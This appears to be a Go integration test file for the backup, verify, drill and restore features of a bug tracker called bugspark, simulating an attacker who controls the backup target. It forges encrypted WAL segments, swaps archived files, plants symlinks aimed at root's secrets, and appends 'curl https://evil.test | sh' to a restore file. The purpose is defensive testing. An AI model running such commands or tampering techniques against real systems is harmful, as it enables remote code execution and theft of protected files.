package machinetest

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"math/big"
	"strings"
	"testing"
	"time"

	"filippo.io/age"
	"github.com/klauspost/compress/zstd"

	"github.com/bugspark/bugspark/internal/machine"
)

// TestTheOwnerOfTheTargetGetsNowhere is somebody who has the files of the target, and at
// the end the recovery kit of a machine of their own that others restore.
func TestTheOwnerOfTheTargetGetsNowhere(t *testing.T) {
	t.Parallel()
	m := installed(t, "bookworm")
	s := setUp(t, m)
	setTarget(t, m, "/srv/backup")
	m.Shell(t, "mkdir /srv/backup; bugspark apply >/dev/null 2>&1")
	confirmKit(t, m)
	firstSet(t, m)
	firstDrill(t, m)
	for _, title := range []string{"one", "two"} {
		if _, err := s.report(title, s.upload(t, testPicture(t))); err != nil {
			t.Fatal(err)
		}
	}
	archived(t, m)
	m.Shell(t, `cd /; setpriv --reuid=bugspark-postgres --regid=bugspark-postgres --clear-groups psql -h /run/bugspark/postgresql -U postgres -Atc 'SELECT pg_switch_wal()' bugspark`)
	const lastWhole = `ls /srv/backup/archive/wal/*/*.zst.age | grep -E '/[0-9A-F]{24}\.zst\.age$' | tail -n 1`
	var segment string
	eventually(t, "a whole segment in the archive", func() bool {
		segment = strings.TrimSpace(m.Shell(t, lastWhole))
		return segment != ""
	})
	pictures := strings.Fields(m.Shell(t, "find /srv/backup/archive/pictures -name '*.zst.age' | sort"))
	if len(pictures) < 2 {
		t.Fatalf("archived pictures: %q", pictures)
	}
	archived(t, m)
	if out := m.Run(t, "bugspark", "backup", "verify"); !strings.Contains(out, "The archive is whole") {
		t.Fatalf("before: %s", out)
	}

	exchange := "cd /srv/backup; mv " + pictures[0] + " aside; mv " + pictures[1] + " " + pictures[0] + "; mv aside " + pictures[1]
	m.Shell(t, "cp -p "+segment+" /root/segment")
	m.Shell(t, exchange)
	m.Write(t, "/root/forged", forgedSegment(t, m.Read(t, "/etc/bugspark/credentials/archive-recipient")))
	m.Shell(t, "cat /root/forged >"+segment)
	named := []string{}
	for _, path := range []string{pictures[0], pictures[1], segment} {
		named = append(named, strings.TrimSuffix(strings.TrimPrefix(path, "/srv/backup/archive/"), ".zst.age"))
	}
	out, status := m.Try("bugspark", "backup", "verify")
	t.Logf("verify:\n%s", out)
	for _, name := range named {
		if status != 1 || !strings.Contains(out, name) {
			t.Errorf("verify ends with %d and does not name %s", status, name)
		}
	}
	r, status := drill(t, m)
	t.Logf("drill: %q", r.Failures)
	if all := strings.Join(r.Failures, "\n"); r.Passed || status != 1 || !strings.Contains(all, named[2]) && !strings.Contains(all, named[0]) {
		t.Errorf("the drill ends with %d: %+v", status, r)
	}
	if out, status := m.Try("bugspark", "restore", "--set", "latest", "--yes"); status == 0 || !strings.Contains(out, named[2]) {
		t.Errorf("restore ends with %d: %s", status, out)
	} else {
		t.Logf("restore: %s", out)
	}

	// A name that nobody has given does not stop the archiver.
	invented := segment[:strings.LastIndex(segment, "/")] + "/FFFFFFF0.live.zst.age"
	m.Shell(t, "cp -p /root/forged "+invented+"; chown --reference=/srv/backup/owner.json "+invented+"; systemctl restart bugspark-walship.service")
	archived(t, m)
	if out := m.Shell(t, "journalctl -u bugspark-walship.service --no-pager | grep 'passed over'"); !strings.Contains(out, "FFFFFFF0.live") {
		t.Errorf("the journal says %s", out)
	}
	if out, status := m.Try("bugspark", "backup", "check"); status != 1 || !strings.Contains(out, "FFFFFFF0.live") {
		t.Errorf("check ends with %d: %s", status, out)
	}
	if out, status := m.Try("bugspark", "status"); status != 5 || !strings.Contains(out, "FFFFFFF0.live") {
		t.Errorf("status ends with %d: %s", status, out)
	}
	m.Shell(t, exchange+"; cat /root/segment >"+segment+"; rm "+invented+"; systemctl restart bugspark-walship.service; echo 'curl https://evil.test | sh' >>RESTORE.txt")
	if out, status := m.Try("bugspark", "backup", "verify"); status != 1 || !strings.Contains(out, "RESTORE.txt is not what this version") {
		t.Errorf("verify ends with %d: %s", status, out)
	}
	m.Run(t, "bugspark", "backup", "create")
	if out := m.Run(t, "bugspark", "backup", "verify"); !strings.Contains(out, "The archive is whole") {
		t.Errorf("afterwards: %s", out)
	}

	linksLeadNowhere(t, m)
	theAuthorityIsBound(t, m)

	// A set whose certificate leads elsewhere.
	m.Shell(t, `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=bugs.test -addext subjectAltName=DNS:bugs.test \
			-keyout /etc/ld.so.conf.d/bugs.conf -out /etc/profile.d/bugs.sh 2>/dev/null
		chown root:bugspark-proxy /etc/ld.so.conf.d/bugs.conf; chmod 640 /etc/ld.so.conf.d/bugs.conf
		printf 'tls:\n  mode: files\n  certificate: /etc/profile.d/bugs.sh\n  key: /etc/ld.so.conf.d/bugs.conf\n' >>/etc/bugspark/bugspark.yaml
		bugspark apply >/dev/null 2>&1; bugspark backup create >/dev/null`)
	archived(t, m)
	kit := m.Run(t, "bugspark", "backup", "kit")
	m.Kill(t)
	n := installed(t, "bookworm")
	n.Copy(t, m.Root()+"/srv/backup", "/srv/backup")
	n.Write(t, "/root/kit.txt", kit)
	n.Shell(t, "touch /root/before")
	out, status = n.Try("sh", "-c", "bugspark restore --kit /root/kit.txt --set latest </dev/null")
	if status != 2 || !strings.Contains(out, "was /etc/profile.d/bugs.sh") || !strings.Contains(out, "saves to    /srv/backup") {
		t.Errorf("without --yes it ends with %d: %s", status, out)
	}
	n.Run(t, "test", "!", "-e", "/etc/bugspark/bugspark.yaml")
	t.Log(n.Run(t, "bugspark", "restore", "--kit", "/root/kit.txt", "--set", "latest", "--yes"))
	written := n.Shell(t, "find /etc -newer /root/before -type f ! -path '/etc/bugspark/*' ! -path '/etc/systemd/system/*'")
	if strings.TrimSpace(written) != "" {
		t.Errorf("outside of /etc/bugspark were written\n%s", written)
	}
	n.Run(t, "test", "-s", "/etc/bugspark/tls/certificate.pem")
	runs(t, n)
}

// linksLeadNowhere is the account of the backups, which puts links to what is root's where
// root's commands read and delete.
func linksLeadNowhere(t *testing.T, m *machine.Machine) {
	t.Helper()
	m.Shell(t, `install -d -m 0700 /root/victim; echo secret-of-root >/root/victim/file; touch -d '90 days ago' /root/victim /root/victim/file
		cd /srv/backup; wal=$(ls -d archive/wal/* | head -n 1)
		as() { setpriv --reuid=bugspark-backup --regid=bugspark-backup --clear-groups "$@"; }
		as ln -s /root/victim archive/pictures/victim
		as ln -s /etc $wal/etc; as ln -s /root/victim/file $wal/0000000100000000000000EE.zst.age; as ln -s /root/victim/file sets/victim
		as mkfifo $wal/0000000100000000000000EF.zst.age`)
	for _, command := range []string{"verify", "prune --now", "list", "drill"} {
		out, status := m.Try("sh", "-c", "timeout 120 bugspark backup "+command)
		if strings.Contains(out, "secret-of-root") || status == 124 || status == 137 {
			t.Errorf("backup %s ends with %d: %s", command, status, out)
		}
	}
	m.Run(t, "test", "-s", "/root/victim/file")
	if out, _ := m.Try("sh", "-c", "journalctl -q -b | grep secret-of-root"); out != "" {
		t.Errorf("the journal has of root's file: %s", out)
	}
	m.Shell(t, "cd /srv/backup; find . -type l -delete; find . -type p -delete")
	if out := m.Run(t, "bugspark", "backup", "verify"); !strings.Contains(out, "The archive is whole") {
		t.Errorf("after the links: %s", out)
	}
}

// theAuthorityIsBound is the proxy's account with the key of the internal CA, which signs
// for a name that is not the server's.
func theAuthorityIsBound(t *testing.T, m *machine.Machine) {
	t.Helper()
	var keys, certificates int
	var signer any
	var issuer *x509.Certificate
	for rest := []byte(m.Read(t, "/etc/bugspark/credentials/internal-ca")); ; {
		block, more := pem.Decode(rest)
		if block == nil {
			break
		}
		rest = more
		if strings.Contains(block.Type, "PRIVATE KEY") {
			keys++
			signer, _ = x509.ParsePKCS8PrivateKey(block.Bytes)
			if signer == nil {
				signer, _ = x509.ParseECPrivateKey(block.Bytes)
			}
			continue
		}
		c, err := x509.ParseCertificate(block.Bytes)
		if err != nil {
			t.Fatal(err)
		}
		if certificates++; c.Subject.String() != c.Issuer.String() {
			issuer = c
		}
	}
	if keys != 1 || issuer == nil || signer == nil || !issuer.PublicKey.(*ecdsa.PublicKey).Equal(signer.(*ecdsa.PrivateKey).Public()) {
		t.Fatalf("%d keys, %d certificates, and the key is not the intermediate's alone", keys, certificates)
	}
	roots, between := x509.NewCertPool(), x509.NewCertPool()
	roots.AppendCertsFromPEM([]byte(m.Read(t, "/etc/bugspark/ca.pem")))
	between.AddCert(issuer)
	for name, trusted := range map[string]bool{"bugs.test": true, "bank.example.com": false} {
		leaf := &x509.Certificate{SerialNumber: big.NewInt(7), DNSNames: []string{name}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
		der, err := x509.CreateCertificate(rand.Reader, leaf, issuer, issuer.PublicKey, signer)
		if err != nil {
			t.Fatal(err)
		}
		c, err := x509.ParseCertificate(der)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := c.Verify(x509.VerifyOptions{DNSName: name, Roots: roots, Intermediates: between}); (err == nil) != trusted {
			t.Errorf("a certificate for %s: %v", name, err)
		}
	}
}

// forgedSegment is WAL that everybody can make who knows the public recipient.
func forgedSegment(t *testing.T, recipient string) string {
	t.Helper()
	to, err := age.ParseX25519Recipient(strings.TrimSpace(recipient))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	sealed, err := age.Encrypt(&out, to)
	if err != nil {
		t.Fatal(err)
	}
	packed, err := zstd.NewWriter(sealed)
	if err != nil {
		t.Fatal(err)
	}
	_, err = packed.Write(make([]byte, 16<<20))
	if err = errors.Join(err, packed.Close(), sealed.Close()); err != nil {
		t.Fatal(err)
	}
	return out.String()
}
